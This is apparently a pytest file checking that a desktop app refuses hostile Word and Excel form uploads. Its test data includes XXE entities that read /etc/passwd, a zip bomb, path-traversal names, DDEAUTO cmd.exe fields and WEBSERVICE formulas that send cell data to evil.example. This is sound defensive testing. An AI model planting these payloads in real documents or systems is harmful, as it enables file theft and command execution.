"""Forms made to harm, or that are no forms: each is refused with a plain sentence, and nothing in them is run."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Mapping
from pathlib import Path

import pytest
from openpyxl import Workbook

from sms_desktop.core.errors import BadFile
from sms_desktop.formats.forms import zip_parts
from sms_desktop.formats.forms.filling import looked
from tests.formats.made_elsewhere import CLASS_LIST, LISTS
from tests.office_files import document, links, types, workbook

BODY = "<w:p><w:r><w:t>${today}</w:t></w:r></w:p>"
_WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml"


def refused(folder: Path, content: bytes, name: str = "form.docx") -> BadFile:
    path = folder / name
    path.write_bytes(content)
    with pytest.raises(BadFile) as caught:
        looked(path, LISTS)
    assert caught.value.sentence
    assert caught.value.way_out
    return caught.value


def with_links(*targets: tuple[str, str] | tuple[str, str, str], **more: str) -> bytes:
    return document(BODY, {"word/_rels/document.xml.rels": links(*targets), **more})


def test_the_harmless_form_of_these_files_is_looked_at_by_the_helper_process(tmp_path: Path) -> None:
    (tmp_path / "form.docx").write_bytes(with_links(("hyperlink", "https://school.example", "External")))
    content, found = looked(tmp_path / "form.docx", LISTS)
    assert (found.form, [spot.name for spot in found.fields], found.wrong) == ("docx", ["today"], ())
    assert content == (tmp_path / "form.docx").read_bytes()


@pytest.mark.parametrize(
    "before",
    ['<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>', '<!DOCTYPE x SYSTEM "file:///etc/passwd">'],
)
def test_entities_are_refused(tmp_path: Path, before: str) -> None:
    assert refused(tmp_path, document(BODY, {"word/styles.xml": f"{before}<x/>"})).code == "unsafe_archive"


def test_entities_that_the_guard_could_miss_are_not_resolved() -> None:
    with pytest.raises(BadFile):
        zip_parts.parsed(b"<x>&unknown;</x>")
    root = zip_parts.parsed(b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/hostname">]><x>&a;</x>')
    assert root.text is None


def test_a_bomb_is_refused_before_it_is_unpacked(tmp_path: Path) -> None:
    bomb = document(BODY, {"word/media/image1.png": b"\0" * (64 << 20)})
    assert refused(tmp_path, bomb).code == "too_big"
    assert refused(tmp_path, b"PK" + b"\0" * (zip_parts.FORM_BYTES + 1)).code == "too_big"


@pytest.mark.parametrize("name", ["../../evil.xml", "/etc/evil.xml", "C:/evil.xml"])
def test_a_part_that_lies_outside_is_refused(tmp_path: Path, name: str) -> None:
    assert refused(tmp_path, document(BODY, {name: "<x/>"})).code == "unsafe_archive"


@pytest.mark.parametrize(
    ("why", "more"),
    [
        ("macros", {"word/vbaProject.bin": b"x"}),
        ("macros", {"customUI/customUI.xml": "<x/>"}),
        ("controls", {"word/activeX/activeX1.xml": "<x/>"}),
        ("macros", {"word/activeX/activeX1.xml": "<x/>", "word/vbaProject.bin": b"x"}),
        ("objects", {"word/embeddings/oleObject1.bin": b"x"}),
        ("macros", {"word/embeddings/sheet1.xlsm": b"x", "[Content_Types].xml": types(
            word__document_xml=f"{_WORD}.document.main+xml",
            word__embeddings__sheet1_xlsm="application/vnd.ms-excel.sheet.macroEnabled.12",
        )}),
        *(
            ("macros", {"[Content_Types].xml": types(word__document_xml=f"application/vnd.ms-word.{kind}.main+xml")})
            for kind in ("document.macroEnabled", "template.macroEnabledTemplate")
        ),
    ],
)  # fmt: skip
def test_programs_are_refused(tmp_path: Path, why: str, more: Mapping[str, str | bytes]) -> None:
    assert refused(tmp_path, document(BODY, more)).code == why


@pytest.mark.parametrize(("kind", "why"), [("oleObject", "objects"), ("control", "controls"), ("vbaProject", "macros")])
def test_programs_are_known_by_what_they_are_linked_as_whatever_they_are_named(
    tmp_path: Path, kind: str, why: str
) -> None:
    inside: dict[str, str | bytes] = {"word/media/image1.dat": b"MZ"}
    content = document(BODY, {"word/_rels/document.xml.rels": links((kind, "media/image1.dat")), **inside})
    assert refused(tmp_path, content).code == why


def test_who_has_activex_controls_in_a_form_is_told_so(tmp_path: Path) -> None:
    told = refused(tmp_path, document(BODY, {"word/activeX/activeX1.xml": "<x/>"}))
    assert "ActiveX" in told.sentence
    assert "content controls" in told.way_out


def test_an_old_drawing_that_names_a_picture_elsewhere_is_refused(tmp_path: Path) -> None:
    picture = '<w:pict><v:fill xmlns:v="urn:schemas-microsoft-com:vml" src="//evil.example/x.png"/></w:pict>'
    error = refused(tmp_path, document(f"{BODY}<w:p><w:r>{picture}</w:r></w:p>"))
    assert (error.code, "evil.example" in error.sentence) == ("linked", True)


@pytest.mark.parametrize("kind", ["image", "subDocument", "oleObject", "frame", "mailMergeSource"])
def test_what_would_be_fetched_is_refused_and_named(tmp_path: Path, kind: str) -> None:
    error = refused(tmp_path, with_links((kind, "https://evil.example/x", "External")))
    assert error.code == "linked"
    assert "https://evil.example/x" in error.sentence


@pytest.mark.parametrize("code", ["DDEAUTO c:\\\\cmd.exe x", ' INCLUDETEXT "//server/x"', "INCLUDEPICTURE http://x"])
def test_fields_of_word_that_fetch_are_refused(tmp_path: Path, code: str) -> None:
    body = f'{BODY}<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>{code}</w:instrText></w:r></w:p>'
    assert refused(tmp_path, document(body)).code == "linked"
    assert refused(tmp_path, document(f"<w:p><w:fldSimple w:instr='{code}'/></w:p>")).code == "linked"


def test_workbooks_that_fetch_from_others_are_refused(tmp_path: Path) -> None:
    assert refused(tmp_path, workbook("<sheetData/>", {"xl/connections.xml": "<x/>"}), "form.xlsx").code == "linked"


@pytest.mark.parametrize(
    "pieces",
    [
        ("<w:t>x</w:t>", "PAGE", "DDEAUTO c:\\\\x"),
        ("", "DDEA", "UTO c:\\\\x", "joined"),
        ("", "QUOTE 68 68 69 65 85 84 79"),
    ],
)
def test_fields_of_word_are_known_however_they_are_cut(tmp_path: Path, pieces: tuple[str, ...]) -> None:
    text, *codes = pieces
    begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    between = "</w:p><w:p>" if codes[-1] == "joined" else begin
    made = between.join(f"<w:r>{text}<w:instrText>{code}</w:instrText></w:r>" for code in codes if code != "joined")
    assert refused(tmp_path, document(f"{BODY}<w:p>{begin}{made}</w:p>")).code == "linked"


def test_a_foreign_file_inside_a_document_is_refused(tmp_path: Path) -> None:
    assert refused(tmp_path, document(f'{BODY}<w:altChunk r:id="rId1"/>')).code == "linked"


@pytest.mark.parametrize(
    "formula",
    [
        'WEBSERVICE("https://evil.example/?"&amp;A1)',
        '_xlfn.IMAGE ("https://x/"&amp;A1)',
        "cmd|'/c calc'!A0",
        'dde("a";"b")',
    ],
)
def test_formulas_that_carry_something_out_are_refused(tmp_path: Path, formula: str) -> None:
    sheet = f'<sheetData><row r="1"><c r="A1"><f>{formula}</f></c></row></sheetData>'
    assert refused(tmp_path, workbook(sheet), "form.xlsx").code == "linked"
    name = f'<definedNames><definedName name="x">{formula}</definedName></definedNames>'
    assert refused(tmp_path, workbook("<sheetData/>", names=name), "form.xlsx").code == "linked"


def test_files_of_other_kinds_are_told_what_to_do(tmp_path: Path) -> None:
    open_document = io.BytesIO()
    with zipfile.ZipFile(open_document, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text")
    for content, way_out in (
        (b"\xd0\xcf\x11\xe0" + b"\0" * 600, "save it as .docx or .xlsx."),
        (b"\xd0\xcf\x11\xe0" + b"\0" * 600 + "EncryptedPackage".encode("utf-16-le"), "without a password"),
        (open_document.getvalue(), "LibreOffice"),
        (b"%PDF-1.7", ".docx or .xlsx"),
        (b"", ".docx or .xlsx"),
        (document(BODY, main=f"{_WORD}.glossary+xml"), ".docx or .xlsx"),
        (CLASS_LIST.read_bytes()[:3000], "again"),
    ):
        assert way_out in refused(tmp_path, content).way_out
    with pytest.raises(BadFile, match="can't be opened"):
        looked(tmp_path / "missing.docx", LISTS)


def test_a_sheet_far_larger_than_any_form_is_refused(tmp_path: Path) -> None:
    sheet = '<sheetData><row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
    assert refused(tmp_path, workbook(sheet), "form.xlsx").code == "too_big"


def test_a_workbook_named_as_a_document_is_known_by_what_is_in_it(tmp_path: Path) -> None:
    file = io.BytesIO()
    book = Workbook()
    book.active["A1"] = "${today}"
    book.save(file)
    (tmp_path / "form.docx").write_bytes(file.getvalue())
    assert looked(tmp_path / "form.docx", LISTS)[1].form == "xlsx"
